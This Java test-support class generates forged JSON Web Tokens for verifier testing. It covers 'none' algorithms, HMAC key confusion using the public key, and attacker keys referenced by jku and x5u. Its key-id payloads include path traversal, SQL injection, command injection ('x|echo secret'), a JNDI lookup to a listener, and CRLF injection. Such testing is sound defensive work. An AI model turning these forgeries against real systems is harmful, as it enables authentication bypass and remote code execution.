package io.concord.it;

import java.nio.charset.StandardCharsets;
import java.security.PublicKey;
import java.security.interfaces.RSAPublicKey;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;

/** Tokens that say what a good one says and are signed by nobody, by somebody else, or by a trick. */
final class ForgedSignatures {
    private static final byte[] NOTHING = new byte[0];

    private final TokenKind kind;
    private final RawJson header;
    private final RawJson claims;
    private final Attacker attacker = new Attacker();
    private final String listener;
    private final String good;
    private final List<Forgery> found = new ArrayList<>();

    /** @param listener an address that nobody may be sent to by a token */
    ForgedSignatures(TokenKind kind, String listener) {
        this.kind = kind;
        this.header = kind.header();
        this.claims = kind.claims();
        this.listener = listener;
        this.good = kind.good();
    }

    List<Forgery> all() {
        noAlgorithm();
        publicKeyAsSecret();
        keysOfItsOwn();
        namesOfKeys();
        damaged();
        return List.copyOf(found);
    }

    private void add(String name, String token) {
        found.add(Forgery.token(name, token, good));
    }

    private void noAlgorithm() {
        for (var algorithm : List.of("none", "None", "NONE", "nOnE", "", " none", "none\\u0000", "n\\u006fne")) {
            var named = header.with("alg", RawJson.text(algorithm));
            add("algorithm '" + algorithm + "' without a signature", Jws.with(named, claims, ""));
            add(
                    "algorithm '" + algorithm + "' with the signature of another token",
                    Jws.with(named, claims, Jws.part(good, 2)));
        }
        for (var algorithm : List.of("null", "1", "true", "{}", "[\"none\"]", "1e999")) {
            add("algorithm " + algorithm + ", which is no text", Jws.with(header.with("alg", algorithm), claims, ""));
        }
        add("no algorithm", Jws.with(header.without("alg"), claims, ""));
        if (kind.signs()) {
            add("no algorithm, signed all the same", Jws.signed(header.without("alg"), claims, kind::signature));
            add(
                    "algorithm in lower case",
                    Jws.signed(
                            header.with("alg", header.value("alg").toLowerCase(Locale.ROOT)), claims, kind::signature));
        }
        add("two algorithms, the last of them none", Jws.with(header.again("alg", "\"none\""), claims, ""));
        add(
                "two algorithms, the first of them none",
                Jws.with(RawJson.empty().with("alg", "\"none\"").again("alg", header.value("alg")), claims, ""));
    }

    private void publicKeyAsSecret() {
        secrets(kind.publicKey())
                .forEach((what, secret) -> Map.of("HS256", "HmacSHA256", "HS384", "HmacSHA384", "HS512", "HmacSHA512")
                        .forEach((algorithm, mac) -> add(
                                algorithm + " with " + what + " as the secret",
                                Jws.signed(
                                        header.with("alg", RawJson.text(algorithm)),
                                        claims,
                                        signed -> Jws.hmac(mac, secret, signed)))));
    }

    /** Everything that a library may take for the bytes of a secret when it is given a public key. */
    private static Map<String, byte[]> secrets(PublicKey key) {
        var body = Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                .encodeToString(key.getEncoded());
        var pem = "-----BEGIN PUBLIC KEY-----\n" + body + "\n-----END PUBLIC KEY-----";
        var secrets = new LinkedHashMap<String, byte[]>();
        secrets.put("the public key in PEM with the last line's end", bytes(pem + "\n"));
        secrets.put("the public key in PEM", bytes(pem));
        secrets.put("the public key in base64 in lines", bytes(body));
        secrets.put("the public key in base64", bytes(body.replace("\n", "")));
        secrets.put("the public key in DER", key.getEncoded());
        if (key instanceof RSAPublicKey rsa) {
            secrets.put("the modulus", rsa.getModulus().toByteArray());
        }
        secrets.put("nothing", NOTHING);
        secrets.put("a word", bytes("secret"));
        return secrets;
    }

    private void keysOfItsOwn() {
        var rs256 = header.with("alg", "\"RS256\"");
        var es256 = header.with("alg", "\"ES256\"");
        var rsaKey = attacker.rsaKey().toJSONString();
        var ecKey = attacker.ecKey().toJSONString();
        var certificate = RawJson.text(attacker.certificate());
        byRsa("another key", rs256);
        byRsa("another key and its id", rs256.with("kid", "\"mallory\""));
        byRsa("another key and no id", rs256.without("kid"));
        byRsa("another key that the token brings with it (jwk)", rs256.with("jwk", rsaKey));
        byRsa("another key at an address (jku)", rs256.with("jku", RawJson.text(listener)));
        byRsa("another key at an address of a file (jku)", rs256.with("jku", "\"file:///etc/hostname\""));
        byRsa("another certificate at an address (x5u)", rs256.with("x5u", RawJson.text(listener)));
        byRsa("another certificate that the token brings with it (x5c)", rs256.with("x5c", "[" + certificate + "]"));
        byRsa(
                "all of them at once",
                rs256.with("jwk", rsaKey).with("jku", RawJson.text(listener)).with("x5c", "[" + certificate + "]"));
        add("another curve's key", Jws.signed(es256, claims, attacker::es256));
        add(
                "another curve's key that the token brings with it (jwk)",
                Jws.signed(es256.with("jwk", ecKey), claims, attacker::es256));
        add("a signature of zeros (CVE-2022-21449)", Jws.with(es256, claims, Jws.base64(new byte[64])));
        add("a signature of zeros in DER", Jws.with(es256, claims, Jws.base64(new byte[] {0x30, 6, 2, 1, 0, 2, 1, 0})));
    }

    private void byRsa(String name, RawJson ofItsOwn) {
        add(name, Jws.signed(ofItsOwn, claims, attacker::rs256));
    }

    /** What is made a key of if the id is taken for a path, an address, a query or a command. */
    private void namesOfKeys() {
        var contents = new LinkedHashMap<String, byte[]>();
        contents.put("../../../../../../../../dev/null", NOTHING);
        contents.put("/dev/null", NOTHING);
        contents.put("file:///dev/null", NOTHING);
        contents.put("/proc/sys/kernel/ostype", bytes("Linux\n"));
        contents.put("..%2f..%2f..%2fproc/sys/kernel/ostype", bytes("Linux\n"));
        contents.put(listener, NOTHING);
        contents.put("x' UNION SELECT 'secret", bytes("secret"));
        contents.put("x|echo secret", bytes("secret\n"));
        contents.put("${jndi:" + listener.replace("http:", "ldap:") + "}", NOTHING);
        contents.put("x\\r\\n" + FuzzText.FORGED_LINE, NOTHING);
        contents.put("", NOTHING);
        contents.forEach((id, secret) -> {
            var named = header.with("kid", RawJson.text(id));
            add(
                    "key id '" + id + "' for a secret",
                    Jws.signed(
                            named.with("alg", "\"HS256\""), claims, signed -> Jws.hmac("HmacSHA256", secret, signed)));
            byRsa("key id '" + id + "'", named.with("alg", "\"RS256\""));
        });
        for (var id : List.of("null", "1", "[]", "{\"a\":1}", "1e999")) {
            byRsa("key id " + id + ", which is no text", header.with("kid", id));
        }
        byRsa("a key id of 20,000 characters", header.with("kid", RawJson.text("k".repeat(20_000))));
    }

    private void damaged() {
        var signed = Jws.part(good, 0) + "." + Jws.part(good, 1);
        var signature = Base64.getUrlDecoder().decode(Jws.part(good, 2));
        add("no signature", signed + ".");
        add("half a signature", signed + "." + Jws.base64(Arrays.copyOf(signature, signature.length / 2)));
        add("a signature and a byte more", signed + "." + Jws.base64(Arrays.copyOf(signature, signature.length + 1)));
        var flipped = signature.clone();
        flipped[7] ^= 1;
        add("a signature with another bit", signed + "." + Jws.base64(flipped));
        if (kind.signs()) {
            var other = Jws.signed(header, claims.with("sub", "\"bob\""), kind::signature);
            add("the signature of somebody else's token", signed + "." + Jws.part(other, 2));
        }
        add(
                "other claims under a good signature",
                Jws.with(header, claims.with("sub", "\"mallory\""), Jws.part(good, 2)));
        add("another header over a good signature", Jws.with(header.with("x", "1"), claims, Jws.part(good, 2)));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
